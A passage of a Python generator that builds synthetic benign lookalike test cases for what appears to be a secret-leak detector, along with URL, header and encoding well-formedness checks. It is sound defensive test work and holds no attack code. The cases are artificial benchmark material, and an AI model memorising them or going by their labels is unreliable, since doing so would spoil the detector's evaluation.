    if k == 1:
        return BT("".join("%s  %s-%d.%d.%d.tar.gz\n" % (rhex(rng, 64), rng.choice(WORDS), rng.randint(0, 9), rng.randint(0, 20), rng.randint(0, 9)) for _ in range(rng.randint(2, 4))))
    if k == 2:
        return H("Digest: sha-256=%s" % b64(rbytes(rng, 32)))
    return BJ({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": {"digest": "sha256:" + rhex(rng, 64), "size": rng.randint(500, 9000)},
               "layers": [{"digest": "sha256:" + rhex(rng, 64), "size": rng.randint(10 ** 5, 10 ** 8)}]}, rng, "application/vnd.oci.image.manifest.v1+json")


def n_asset(rng):
    k = rng.randrange(3)
    if k == 0:
        return U("https://cdn.%s.com/_next/static/chunks/pages/%s-%s.js" % (rng.choice(ORGS), rng.choice(WORDS), rhex(rng, 16)))
    if k == 1:
        return U("https://%s.example.com/assets/%s.%s.%s" % (rng.choice(ORGS), rng.choice(["app", "vendor", "main", "runtime"]), rhex(rng, 8), rng.choice(["css", "js", "woff2"])))
    return BT("<!doctype html><html><head><link rel=\"stylesheet\" href=\"/static/css/main.%s.css\"><script defer src=\"/static/js/main.%s.js\"></script></head><body><div id=\"root\"></div></body></html>" % (rhex(rng, 8), rhex(rng, 8)), "text/html")


def n_docid(rng):
    k = rng.randrange(5)
    if k == 0:
        return U("https://docs.google.com/%s/d/1%s/edit#gid=0" % (rng.choice(["document", "spreadsheets", "presentation"]), rs(rng, 43, B64U)))
    if k == 1:
        return U("https://www.googleapis.com/drive/v3/files/1%s?fields=id,name,mimeType" % rs(rng, 32, B64U))
    if k == 2:
        return U("https://www.notion.so/%s-%s-%s" % (rng.choice(WORDS).title(), rng.choice(WORDS).title(), rhex(rng, 32)))
    if k == 3:
        return U("https://www.youtube.com/watch?v=%s&t=%ds" % (rs(rng, 11, B64U), rng.randint(1, 600)))
    return U("https://api.airtable.com/v0/app%s/tbl%s?view=viw%s" % (rs(rng, 14), rs(rng, 14), rs(rng, 14)))


def n_image(rng):
    d = b64(png_bytes(rng, rng.randint(2, 6), rng.randint(2, 6)))
    k = rng.randrange(3)
    if k == 0:
        return BJ({"model": "gpt-4o", "messages": [{"role": "user", "content": [{"type": "text", "text": "What is in this picture?"}, {"type": "image_url", "image_url": {"url": "data:image/png;base64," + d}}]}]}, rng)
    if k == 1:
        return BJ({"model": "claude-sonnet-4-5", "max_tokens": 512, "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": d}}, {"type": "text", "text": "Describe the chart."}]}]}, rng)
    return BJ({"user_id": rng.randint(1, 99999), "avatar": {"filename": "me.png", "mime": "image/png", "image_base64": d}}, rng)


def n_cursor(rng):
    k = rng.randrange(3)
    if k == 0:
        return U("https://api.%s.com/v1/items?limit=50&cursor=%s" % (rng.choice(ORGS), b64u(json.dumps({"id": rng.randint(1, 10 ** 6), "ts": rng.randint(1.7e9, 1.76e9)}))))
    if k == 1:
        return BJ({"query": "query($after: String) { repository(owner: \"%s\", name: \"%s\") { issues(first: 50, after: $after) { nodes { title } } } }" % (rng.choice(ORGS), rng.choice(WORDS)),
                   "variables": {"after": b64("cursor:v2:" + rs(rng, 12))}}, rng)
    return U("https://slack.com/api/conversations.history?channel=C0%s&limit=200&cursor=%s" % (rs(rng, 9, UP + DI), b64("bmV4dF90czox" + rs(rng, 10, DI))))


def n_sri(rng):
    if rng.random() < 0.5:
        return BT('<script src="https://cdn.jsdelivr.net/npm/%s@%d.%d.%d/dist/%s.min.js" integrity="sha384-%s" crossorigin="anonymous"></script>\n' % (
            rng.choice(["bootstrap", "alpinejs", "htmx.org"]), rng.randint(1, 5), rng.randint(0, 9), rng.randint(0, 9), rng.choice(WORDS), b64(rbytes(rng, 48))), "text/html")
    return BJ({"name": rng.choice(WORDS), "lockfileVersion": 3, "packages": {"node_modules/%s" % rng.choice(["lodash", "chalk", "debug"]): {
        "version": "%d.%d.%d" % (rng.randint(1, 5), rng.randint(0, 20), rng.randint(0, 9)), "resolved": "https://registry.npmjs.org/x/-/x-1.0.0.tgz", "integrity": "sha512-" + b64(rbytes(rng, 64))}}}, rng)


def n_sshpub(rng):
    k = ssh_pub(rng)
    if rng.random() < 0.5:
        return BJ({"title": "%s laptop" % rng.choice(PEOPLE), "key": k}, rng)
    return BT("#cloud-config\nusers:\n  - name: %s\n    ssh_authorized_keys:\n      - %s\n    sudo: ALL=(ALL) NOPASSWD:ALL\n" % (rng.choice(PEOPLE), k), "text/cloud-config")


def n_masked(rng):
    m = rng.choice(["sk_live_" + "\u2022" * 20 + rs(rng, 4, DI), "ghp_" + "*" * 36, "AKIA" + "*" * 12 + rs(rng, 4, UP), "xoxb-\u2026", "sk-ant-\u2026" + rs(rng, 4),
                    "glpat-********************", "****-****-****-%s" % rs(rng, 4, DI), "sk-proj-...%s" % rs(rng, 4)])
    k = rng.randrange(3)
    if k == 0:
        return BJ({"integration": rng.choice(WORDS), "api_key": m, "status": "active", "last_used": ts_iso(rng)}, rng)
    if k == 1:
        return BT("Your key %s was rotated on %s. Update your deployments." % (m, ts_iso(rng)))
    return BJ({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "My logs show token=%s, is that redacted correctly?" % m}]}, rng)


def n_placeholder(rng):
    k = rng.randrange(5)
    if k == 0:
        return BT("OPENAI_API_KEY=<your-openai-api-key>\nSTRIPE_SECRET_KEY=<sk_live_...>\nDATABASE_URL=postgres://<user>:<password>@<host>:5432/<db>\n")
    if k == 1:
        return BT("env:\n  GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n", "application/yaml")
    if k == 2:
        return H("Authorization: Bearer <token>")
    if k == 3:
        return BJ({"password": "${DB_PASSWORD}", "api_key": "{{ api_key }}", "host": "db.%s.internal" % rng.choice(ORGS)}, rng)
    return BT("curl https://api.example.com/v1/me -H \"Authorization: Bearer $API_TOKEN\" -H \"X-Api-Key: ${X_API_KEY}\"\n")


PROSE = [
    "How do I rotate an API key without downtime? We deploy on Kubernetes and the key is stored in a secret.",
    "Wie kann ich mein Passwort sicher in einer Umgebungsvariablen speichern, ohne es ins Repository einzuchecken?",
    "Comment révoquer un jeton d'accès personnel GitHub qui a été divulgué par erreur ?",
    "¿Cuál es la mejor práctica para guardar claves de API en una aplicación móvil?",
    "APIキーをGitにコミットしてしまいました。どうすれば無効化できますか？",
    "如何在 CI 流水线中安全地注入数据库密码，而不是把它写在配置文件里？",
    "Qual é a diferença entre uma chave publicável e uma chave secreta do Stripe?",
    "Explain the difference between an access token and a refresh token in OAuth 2.0.",
    "Мой токен бота Telegram утёк в публичный чат. Как его перевыпустить?",
    "Write a short policy paragraph: secrets must never be pasted into tickets or chat.",
]


def n_prose(rng):
    p = rng.choice(PROSE)
    k = rng.randrange(3)
    if k == 0:
        return BJ({"model": rng.choice(["gpt-4o", "gpt-4.1"]), "messages": [{"role": "user", "content": p}]}, rng)
    if k == 1:
        return BJ({"model": "claude-3-5-haiku-latest", "max_tokens": 800, "messages": [{"role": "user", "content": p}]}, rng)
    return BJ({"channel": "C0" + rs(rng, 9, UP + DI), "text": p}, rng)


def n_coderef(rng):
    k = rng.randrange(5)
    if k == 0:
        t = "import os\nfrom openai import OpenAI\n\nclient = OpenAI(api_key=os.environ[\"OPENAI_API_KEY\"])\n"
    elif k == 1:
        t = "const stripe = require('stripe')(process.env.STRIPE_SECRET_KEY);\nconst token = process.env.GITHUB_TOKEN ?? '';\n"
    elif k == 2:
        t = "variable \"db_password\" {\n  type      = string\n  sensitive = true\n}\n\nresource \"aws_db_instance\" \"main\" {\n  password = var.db_password\n}\n"
    elif k == 3:
        t = "env:\n  - name: DB_PASSWORD\n    valueFrom:\n      secretKeyRef:\n        name: db-credentials\n        key: password\n"
    else:
        return BJ({"SecretId": "prod/%s/api-credentials" % rng.choice(WORDS), "VersionStage": "AWSCURRENT"}, rng, "application/x-amz-json-1.1")
    return BJ({"jsonrpc": "2.0", "id": rng.randint(1, 300), "method": "tools/call", "params": {"name": "write_file", "arguments": {"path": rng.choice(["main.py", "index.js", "db.tf", "deploy.yaml"]), "content": t}}}, rng)


def bad_luhn(rng, n=16):
    while True:
        d = rng.choice("3456") + rs(rng, n - 1, DI)
        if not luhn_ok(d):
            return d


def n_luhnbad(rng):
    d = bad_luhn(rng, rng.choice([13, 15, 16, 16, 19]))
    k = rng.randrange(3)
    if k == 0:
        return BJ({"tracking_number": d, "carrier": rng.choice(["dhl", "ups", "fedex"]), "status": "in_transit"}, rng)
    if k == 1:
        return U("https://api.%s.example/v1/shipments/%s/events" % (rng.choice(ORGS), d))
    return BT("order_ref,amount\n%s,%d.%02d\n" % (d, rng.randint(1, 900), rng.randint(0, 99)), "text/csv")


def n_phone(rng):
    p = rng.choice(["+1%d555%04d" % (rng.randint(201, 989), rng.randint(100, 199)), "+44 20 7946 %04d" % rng.randint(0, 999), "+49 30 %d" % rng.randint(1000000, 9999999), "(%d) 555-%04d" % (rng.randint(201, 989), rng.randint(100, 199))])
    k = rng.randrange(3)
    if k == 0:
        return BJ({"name": rng.choice(PEOPLE).title(), "phone": p, "city": rng.choice(CITIES)}, rng)
    if k == 1:
        return dict(where="body", text=urllib.parse.urlencode([("To", p), ("Body", "Your table is ready")]), content_type="application/x-www-form-urlencoded")
    return U("https://api.%s.example/v1/lookup?number=%s" % (rng.choice(ORGS), urllib.parse.quote(p, safe="")))


def isbn13(rng):
    d = "978" + rs(rng, 9, DI)
    s = sum(int(c) * (1 if i % 2 == 0 else 3) for i, c in enumerate(d))
    return d + str((10 - s % 10) % 10)


def n_isbn(rng):
    i = isbn13(rng)
    k = rng.randrange(3)
    if k == 0:
        return U("https://openlibrary.org/isbn/%s.json" % i)
    if k == 1:
        return U("https://www.googleapis.com/books/v1/volumes?q=isbn:%s" % i)
    return BJ({"title": "%s of %s" % (rng.choice(["History", "Guide", "Atlas"]), rng.choice(CITIES)), "isbn": "%s-%s-%s-%s-%s" % (i[:3], i[3], i[4:7], i[7:12], i[12])}, rng)


def n_order(rng):
    o = rng.choice(["ORD-%d-%06d" % (rng.randint(2020, 2025), rng.randint(1, 999999)), "%03d-%07d-%07d" % (rng.randint(100, 999), rng.randint(0, 9999999), rng.randint(0, 9999999)), "INV-%05d" % rng.randint(1, 99999), "PO%d" % rng.randint(10 ** 7, 10 ** 8)])
    k = rng.randrange(3)
    if k == 0:
        return U("https://shop.%s.example/account/orders/%s" % (rng.choice(ORGS), o))
    if k == 1:
        return BJ({"order_number": o, "total": "%d.%02d" % (rng.randint(1, 900), rng.randint(0, 99)), "currency": "EUR", "items": rng.randint(1, 9)}, rng)
    return BT("Hi, I'm following up on order %s placed on %s. It hasn't arrived yet." % (o, ts_iso(rng)[:10]))


def n_timestamp(rng):
    t = rng.randint(1600000000, 1760000000)
    k = rng.randrange(4)
    if k == 0:
        return U("https://api.%s.example/v1/events?since=%d&until=%d" % (rng.choice(ORGS), t, t + 86400))
    if k == 1:
        return BJ({"event": rng.choice(WORDS), "ts_ms": t * 1000 + rng.randint(0, 999), "at": ts_iso(rng)}, rng)
    if k == 2:
        return H("If-Modified-Since: %s, %02d %s 2024 %02d:%02d:%02d GMT" % (rng.choice(["Mon", "Tue", "Wed"]), rng.randint(1, 28), rng.choice(["Jan", "Mar", "Jul"]), rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59)))
    return H("X-Timestamp: %d" % t)


def n_version(rng):
    v = "%d.%d.%d" % (rng.randint(0, 9), rng.randint(0, 30), rng.randint(0, 40))
    k = rng.randrange(3)
    if k == 0:
        return H("User-Agent: %s/%s (+https://%s.example)" % (rng.choice(["python-requests", "axios", "Go-http-client", "okhttp"]), v, rng.choice(ORGS)))
    if k == 1:
        return U("https://pypi.org/pypi/%s/%s/json" % (rng.choice(["requests", "numpy", "pydantic"]), v))
    return BJ({"name": rng.choice(WORDS), "version": v, "dependencies": {"react": "^18.%d.0" % rng.randint(0, 3), "typescript": "~5.%d.2" % rng.randint(0, 6)}}, rng)


def n_macip(rng):
    mac = ":".join("%02x" % rng.randrange(256) for _ in range(6))
    ip = "%d.%d.%d.%d" % (rng.randint(1, 223), rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))
    ip6 = "2001:db8:%x:%x::%x" % (rng.randrange(65536), rng.randrange(65536), rng.randrange(65536))
    k = rng.randrange(3)
    if k == 0:
        return BJ({"device": rng.choice(WORDS), "mac": mac, "ipv4": ip, "ipv6": ip6}, rng)
    if k == 1:
        return BT("%s dhcpd: DHCPACK on %s to %s via eth0\n" % (ts_iso(rng), ip, mac))
    return H("X-Forwarded-For: %s, 10.%d.%d.%d" % (ip, rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)))


def n_cloudhost(rng):
    o = rng.choice(ORGS)
    return HN(rng.choice(["%s-%s.s3.us-east-1.amazonaws.com" % (o, rng.choice(WORDS)), "d%s.cloudfront.net" % rs(rng, 13, LO + DI), "%s.execute-api.eu-west-1.amazonaws.com" % rs(rng, 10, LO + DI),
                          "%s-%s.azurewebsites.net" % (o, rng.choice(WORDS)), "%s-%d.firebaseapp.com" % (o, rng.randint(100, 999)), "ec2-%d-%d-%d-%d.compute-1.amazonaws.com" % tuple(rng.randint(1, 254) for _ in range(4)),
                          "%s.supabase.co" % rs(rng, 20, LO), "%s.blob.core.windows.net" % o.replace("-", ""), "storage.googleapis.com", "%s.%s.cache.amazonaws.com" % (o, rs(rng, 6, LO + DI))]))


def n_preview(rng):
    o, w = rng.choice(ORGS), rng.choice(WORDS)
    return HN(rng.choice(["%s-git-feature-%s-%s.vercel.app" % (w, rng.choice(WORDS), o), "%s-%s-%s.vercel.app" % (w, rs(rng, 9, LO + DI), o), "deploy-preview-%d--%s.netlify.app" % (rng.randint(1, 999), w),
                          "%s.%s.pages.dev" % (rhex(rng, 8), w), "%s-pr-%d.onrender.com" % (w, rng.randint(1, 500)), "pr-%d-%s.up.railway.app" % (rng.randint(1, 500), w)]))


def n_analytics(rng):
    k = rng.randrange(4)
    if k == 0:
        return U("https://www.google-analytics.com/g/collect?v=2&tid=G-%s&cid=%d.%d&en=page_view&dl=%s" % (rs(rng, 10, UP + DI), rng.randint(10 ** 8, 10 ** 9), rng.randint(1.7e9, 1.76e9), urllib.parse.quote("https://%s.example/pricing" % rng.choice(ORGS), safe="")))
    if k == 1:
        return H("Cookie: _ga=GA1.1.%d.%d; _gid=GA1.2.%d.%d" % (rng.randint(10 ** 8, 10 ** 9), rng.randint(1.7e9, 1.76e9), rng.randint(10 ** 8, 10 ** 9), rng.randint(1.7e9, 1.76e9)))
    if k == 2:
        return U("https://www.googletagmanager.com/gtm.js?id=GTM-%s" % rs(rng, 7, UP + DI))
    return H("Cookie: _fbp=fb.1.%d.%d; _hjSessionUser_%d=eyJpZCI6IiJ9" % (rng.randint(1.7e12, 1.76e12), rng.randint(10 ** 8, 10 ** 9), rng.randint(10 ** 6, 10 ** 7)))


def n_trace(rng):
    return H(rng.choice(["traceparent: 00-%s-%s-01" % (rhex(rng, 32), rhex(rng, 16)), "X-Amzn-Trace-Id: Root=1-%s-%s" % (rhex(rng, 8), rhex(rng, 24)),
                         "X-B3-TraceId: %s" % rhex(rng, 32), "sentry-trace: %s-%s-1" % (rhex(rng, 32), rhex(rng, 16)), "x-datadog-trace-id: %d" % rng.randint(10 ** 17, 9 * 10 ** 18),
                         "X-Cloud-Trace-Context: %s/%d;o=1" % (rhex(rng, 32), rng.randint(10 ** 9, 10 ** 10))]))


def n_etag(rng):
    k = rng.randrange(3)
    if k == 0:
        return H('If-None-Match: W/"%s"' % rhex(rng, rng.choice([32, 40])))
    if k == 1:
        return H('If-Match: "%s-%d"' % (rhex(rng, 32), rng.randint(2, 20)))
    return BT("<CompleteMultipartUpload>%s</CompleteMultipartUpload>" % "".join("<Part><PartNumber>%d</PartNumber><ETag>\"%s\"</ETag></Part>" % (i + 1, rhex(rng, 32)) for i in range(rng.randint(2, 4))), "application/xml")


def n_api(rng):
    k = rng.randrange(6)
    if k == 0:
        return U("https://api.open-meteo.com/v1/forecast?latitude=%.2f&longitude=%.2f&hourly=temperature_2m" % (rng.uniform(-60, 60), rng.uniform(-150, 150)))
    if k == 1:
        return U("https://api.github.com/search/issues?q=%s+is%%3Aopen+label%%3Abug&per_page=30&page=%d" % (rng.choice(WORDS), rng.randint(1, 9)))
    if k == 2:
        return U("https://en.wikipedia.org/w/api.php?action=query&format=json&titles=%s&prop=extracts" % rng.choice(CITIES))
    if k == 3:
        return H(rng.choice(["Accept: application/vnd.github+json", "Content-Type: application/json; charset=utf-8", "Accept-Language: de-DE,de;q=0.9,en;q=0.8", "Cache-Control: no-cache"]))
    if k == 4:
        return U("https://registry.npmjs.org/%s" % rng.choice(["react", "express", "@types%2Fnode", "zod"]))
    return H("Host: api.%s.example" % rng.choice(ORGS))


def n_compressed(rng):
    obj = {"events": [{"type": rng.choice(["click", "view", "scroll"]), "path": "/%s" % rng.choice(WORDS), "ts": ts_iso(rng)} for _ in range(rng.randint(2, 6))], "app_version": "%d.%d.%d" % (rng.randint(1, 5), rng.randint(0, 9), rng.randint(0, 9))}
    raw = json.dumps(obj).encode()
    enc = rng.choice(["gzip", "deflate"])
    return dict(where="body", base64=b64(gz(raw) if enc == "gzip" else zlib.compress(raw, 9)), content_type="application/json", content_encoding=enc)


def n_llm(rng):
    q = rng.choice(["Write a Python function that merges two sorted lists.", "Summarize the plot of Hamlet in three sentences.", "Translate 'good morning' into Portuguese and Korean.",
                    "Why does my React useEffect run twice in development?", "Generate a SQL query that returns the top 5 customers by revenue."])
    if rng.random() < 0.5:
        return BJ({"model": "gpt-4o-mini", "messages": [{"role": "system", "content": "You are concise."}, {"role": "user", "content": q}], "stream": True}, rng)
    return BJ({"model": "claude-sonnet-4-5", "max_tokens": 1024, "system": "Answer briefly.", "messages": [{"role": "user", "content": q}]}, rng)


def n_mcp(rng):
    k = rng.randrange(4)
    i = rng.randint(1, 400)
    if k == 0:
        o = {"jsonrpc": "2.0", "id": i, "method": "tools/list"}
    elif k == 1:
        o = {"jsonrpc": "2.0", "id": i, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "agent", "version": "1.4.2"}}}
    elif k == 2:
        o = {"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": "read_file", "arguments": {"path": "src/%s.py" % rng.choice(WORDS)}}}
    else:
        o = {"jsonrpc": "2.0", "id": i, "method": "resources/read", "params": {"uri": "file:///workspace/docs/%s.md" % rng.choice(WORDS)}}
    return BJ(o, rng)


def n_oauth(rng):
    k = rng.randrange(3)
    if k == 0:
        return U("https://accounts.google.com/o/oauth2/v2/auth?client_id=%d-%s.apps.googleusercontent.com&redirect_uri=%s&response_type=code&scope=openid%%20email&state=%s&code_challenge=%s&code_challenge_method=S256" % (
            rng.randint(10 ** 11, 10 ** 12), rs(rng, 32, LO + DI), urllib.parse.quote("https://app.%s.example/callback" % rng.choice(ORGS), safe=""), rs(rng, 32, B64U), b64u(rbytes(rng, 32))))
    if k == 1:
        return U("https://github.com/login/oauth/authorize?client_id=Iv1.%s&redirect_uri=%s&state=%s" % (rhex(rng, 16), urllib.parse.quote("http://localhost:8976/cb", safe=""), rhex(rng, 24)))
    return U("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=%s&response_type=code&response_mode=query&scope=offline_access%%20User.Read&state=%d&nonce=%s" % (uuid4(rng), rng.randint(10000, 99999), rs(rng, 22, B64U)))


def n_publishable(rng):
    pk = rng.choice(["pk_live_", "pk_test_"]) + rs(rng, 99)
    k = rng.randrange(3)
    if k == 0:
        return BT("<script src=\"https://js.stripe.com/v3/\"></script>\n<script>const stripe = Stripe('%s');</script>\n" % pk, "text/html")
    if k == 1:
        return BJ({"publishableKey": pk, "country": "DE", "currency": "eur"}, rng)
    return BT("Sentry.init({ dsn: \"https://%s@o%d.ingest.sentry.io/%d\", tracesSampleRate: 0.1 });\n" % (rhex(rng, 32), rng.randint(10 ** 5, 10 ** 6), rng.randint(10 ** 6, 10 ** 7)), "text/javascript")


def n_badiban(rng):
    k = rng.randrange(3)
    if k == 0:
        v = rng.choice(["ZZ", "QQ", "UK", "XE", "EU"]) + rs(rng, 2, DI) + rs(rng, 18, DI)
    elif k == 1:
        cc = rng.choice(["DE", "FR", "NL", "ES"])
        v = iban_make(rng, cc)
        v = v + rs(rng, 1, DI) if rng.random() < 0.5 else v[:-2]
    else:
        v = rng.choice(["ZZ", "AA", "UK"]) + rs(rng, 20, DI)
    return BJ({"account_reference": v, "note": "internal ledger id", "amount": rng.randint(1, 9999)}, rng) if rng.random() < 0.5 else BT("Ref: %s\n" % " ".join(v[i:i + 4] for i in range(0, len(v), 4)))


def n_badcrypto(rng):
    k = rng.randrange(4)
    if k == 0:
        v = "1" + "".join(rng.choice(B58 + "0OIl") for _ in range(32))
        v = v[:5] + rng.choice("0OIl") + v[6:]
    elif k == 1:
        v = "0x" + rhex(rng, rng.choice([38, 42]))
    elif k == 2:
        v = "0x" + rhex(rng, 64)
    else:
        v = "bc1q" + "".join(rng.choice("qpzry9x8gf2tvdw0s3jn54khce6mua7lbio") for _ in range(38))
        v = v[:10] + rng.choice("bio") + v[11:]
    return BJ({"tx_lookup": v, "chain": rng.choice(["btc", "eth"]), "status": "unknown"}, rng) if rng.random() < 0.5 else U("https://explorer.%s.example/search?q=%s" % (rng.choice(ORGS), v))


def n_hexdump(rng):
    data = rng.choice([b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00", b"Hello, world! This is a test file.\n"])
    lines = []
    for off in range(0, len(data), 16):
        ch = data[off:off + 16]
        lines.append("%08x: %s  %s" % (off, " ".join("%02x%02x" % tuple(ch[i:i + 2].ljust(2, b"\0")) for i in range(0, len(ch), 2)), "".join(chr(c) if 32 <= c < 127 else "." for c in ch)))
    if rng.random() < 0.5:
        return BT("\n".join(lines) + "\n")
    return BJ({"palette": ["#%s" % rhex(rng, 6) for _ in range(5)], "name": rng.choice(WORDS)}, rng)


def n_b64doc(rng):
    t = rng.choice(["# %s\n\nThis project syncs %s data nightly.\n\n## Usage\n\n    make run\n" % (rng.choice(WORDS).title(), rng.choice(WORDS)),
                    "date,city,temp_c\n2024-05-01,%s,%d\n2024-05-02,%s,%d\n" % (rng.choice(CITIES), rng.randint(-5, 35), rng.choice(CITIES), rng.randint(-5, 35))])
    return BJ({"message": "docs: update", "content": b64(t), "branch": "main"}, rng)


def n_form(rng):
    k = rng.randrange(3)
    if k == 0:
        f = [("q", "%s %s" % (rng.choice(WORDS), rng.choice(CITIES))), ("page", str(rng.randint(1, 9))), ("sort", "relevance")]
    elif k == 1:
        f = [("name", rng.choice(PEOPLE).title()), ("email", "%s@%s.example" % (rng.choice(PEOPLE), rng.choice(ORGS))), ("message", "Hello, I'd like a quote for %d seats." % rng.randint(2, 200))]
    else:
        f = [("email", "%s@%s.example" % (rng.choice(PEOPLE), rng.choice(ORGS))), ("list", "newsletter"), ("consent", "yes")]
    return dict(where="body", text=urllib.parse.urlencode(f), content_type="application/x-www-form-urlencoded")


def n_config(rng):
    k = rng.randrange(3)
    if k == 0:
        return BT("server:\n  port: %d\n  host: 0.0.0.0\nfeatures:\n  new_checkout: %s\nlogging:\n  level: info\n" % (rng.choice([8080, 9000]), rng.choice(["true", "false"])), "application/yaml")
    if k == 1:
        return BT("[tool.ruff]\nline-length = %d\nselect = [\"E\", \"F\", \"I\"]\n\n[tool.pytest.ini_options]\naddopts = \"-q\"\n" % rng.choice([88, 100, 120]), "application/toml")
    return BJ({"compilerOptions": {"target": "ES2022", "module": "ESNext", "strict": True, "outDir": "dist"}, "include": ["src"]}, rng)


def n_sqlcsv(rng):
    if rng.random() < 0.5:
        return BT("SELECT id, email, created_at FROM users WHERE created_at > '%s' ORDER BY id LIMIT %d;\n" % (ts_iso(rng)[:10], rng.randint(10, 500)), "application/sql")
    return BT("sku,qty,price\n%s\n" % "\n".join("%s-%d,%d,%d.%02d" % (rng.choice(WORDS)[:4].upper(), rng.randint(100, 999), rng.randint(1, 50), rng.randint(1, 300), rng.randint(0, 99)) for _ in range(3)), "text/csv")


def n_diffbenign(rng):
    f = rng.choice(["src/utils.py", "README.md", "lib/format.ts"])
    return BT("diff --git a/%s b/%s\nindex %s..%s 100644\n--- a/%s\n+++ b/%s\n@@ -1,3 +1,4 @@\n def fmt(x):\n-    return str(x)\n+    return f\"{x:,}\"\n" % (f, f, rhex(rng, 7), rhex(rng, 7), f, f), "text/x-diff")


def n_k8sbenign(rng):
    return BT("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: %s\nspec:\n  replicas: %d\n  template:\n    spec:\n      containers:\n        - name: app\n          image: ghcr.io/%s/%s@sha256:%s\n          env:\n            - name: LOG_LEVEL\n              value: info\n" % (
        rng.choice(WORDS), rng.randint(1, 6), rng.choice(ORGS), rng.choice(WORDS), rhex(rng, 64)), "application/yaml")


def n_stack(rng):
    return BT("Traceback (most recent call last):\n  File \"/app/%s.py\", line %d, in handler\n    result = compute(payload)\nKeyError: 'customer_id'\nrequest_id=%s\n" % (rng.choice(WORDS), rng.randint(1, 400), uuid4(rng)))


NEG_CATS = [
    ("uuid-identifier", n_uuid, 10), ("git-commit-sha", n_gitsha, 10), ("content-digest", n_digest, 10), ("hashed-asset-path", n_asset, 9),
    ("cloud-document-id", n_docid, 10), ("base64-image", n_image, 9), ("pagination-cursor", n_cursor, 9), ("sri-hash", n_sri, 9),
    ("ssh-public-key", n_sshpub, 9), ("masked-secret", n_masked, 11), ("placeholder-secret", n_placeholder, 11), ("secret-prose-multilingual", n_prose, 11),
    ("code-secret-reference", n_coderef, 11), ("luhn-invalid-number", n_luhnbad, 10), ("phone-number", n_phone, 9), ("isbn", n_isbn, 9),
    ("order-number", n_order, 9), ("timestamp", n_timestamp, 9), ("version-string", n_version, 9), ("mac-ip-address", n_macip, 10),
    ("cloud-hostname", n_cloudhost, 11), ("deploy-preview-hostname", n_preview, 10), ("analytics-id", n_analytics, 10), ("trace-id", n_trace, 10),
    ("etag", n_etag, 10), ("ordinary-api-request", n_api, 11), ("compressed-benign-body", n_compressed, 10), ("benign-llm-request", n_llm, 10),
    ("benign-mcp-request", n_mcp, 10), ("oauth-public-parameter", n_oauth, 10), ("publishable-key", n_publishable, 10), ("invalid-iban-lookalike", n_badiban, 10),
    ("invalid-crypto-lookalike", n_badcrypto, 10), ("benign-hexdump", n_hexdump, 8), ("base64-benign-attachment", n_b64doc, 8), ("benign-form-submission", n_form, 9),
    ("benign-config-file", n_config, 9), ("benign-sql-csv", n_sqlcsv, 8), ("benign-diff-manifest", lambda r: n_diffbenign(r) if r.random() < 0.5 else n_k8sbenign(r), 8),
    ("benign-stack-trace", n_stack, 6),
]


# ---------------------------------------------------------------- well-formedness
HDR_RX = re.compile(r"[!#$%&'*+.^_`|~0-9A-Za-z-]+: [\x20-\x7e]*")
LDH_RX = re.compile(r"(?!-)[A-Za-z0-9-]{1,63}(?<!-)")


def host_ok(h):
    if not h or len(h) > 253 or h.endswith("."):
        return False
    labels = h.split(".")
    return len(labels) >= 2 and all(LDH_RX.fullmatch(lab) for lab in labels)


def url_ok(u):
    if not re.fullmatch(r"https?://[\x21-\x7e]+", u):
        return False
    if any(ch in u for ch in '"<>\\^`{|}'):
        return False
    if re.search(r"%(?![0-9A-Fa-f]{2})", u):
        return False
    try:
        sp = urllib.parse.urlsplit(u)
        host = sp.hostname
        _ = sp.port
    except ValueError:
        return False
    return bool(host) and host_ok(host)


def case_body(case):
    if "text" in case:
        data = case["text"].encode("utf-8")
    else:
        data = base64.b64decode(case["base64"], validate=True)
    ce = case.get("content_encoding")
    if ce == "gzip":
        data = gzip.decompress(data)
    elif ce == "deflate":
        data = zlib.decompress(data)
    return data


def wellformed(case):
    w = case.get("where")
    if w not in ("body", "url", "header", "hostname"):
        return "where"
    if ("text" in case) == ("base64" in case):
        return "text/base64"
    if "base64" in case:
        try:
            raw = base64.b64decode(case["base64"], validate=True)
        except (binascii.Error, ValueError):
            return "base64"
        if base64.b64encode(raw).decode() != case["base64"]:
            return "base64-canonical"
    if "content_encoding" in case:
        if case["content_encoding"] not in ("gzip", "deflate") or "base64" not in case:
            return "content_encoding"
    if w != "body" and ("content_type" in case or "base64" in case):
        return "non-body fields"
    try:
        case_body(case)
    except Exception:
        return "decompress"
    if w == "header" and not HDR_RX.fullmatch(case["text"]):
        return "header"
    if w == "url" and not url_ok(case["text"]):
        return "url"
    if w == "hostname" and not host_ok(case["text"]):
        return "hostname"
    return None


# ---------------------------------------------------------------- generation
ORDER = ["id", "label", "expect", "where", "content_type", "content_encoding", "text", "base64"]
ALLOWED = set(ORDER)


def finalize(case, label, expect):
    d = {"label": label, "expect": expect}
    d.update(case)
    return d


def payload_key(case):
    return (case["where"], case.get("text"), case.get("base64"))


def generate():
    rng = random.Random(SEED)
    seen = set()
    pos = []
    for c in CLASSES:
        for _ in range(c["n"]):
            for attempt in range(40):
                case, needle, layers = build_positive(rng, c)
                err = wellformed(case)
                if err is None and not any(needle in b for b in follow(case_body(case), layers)):
                    err = "needle not recoverable"
                if err is None and c["validator"] and not c["validator"](needle.decode()):
                    err = "validator"
                if err is None and payload_key(case) in seen:
                    err = "dup"
                if err is None:
                    break
                if attempt == 39:
                    raise SystemExit("cannot build %s: %s\n%r" % (c["name"], err, case))
            seen.add(payload_key(case))
            pos.append((finalize(case, "positive", c["name"]), needle, layers, c["name"]))
    neg = []
    for name, fn, n in NEG_CATS:
        for _ in range(n):
            for attempt in range(60):
                case = fn(rng)
                err = wellformed(case)
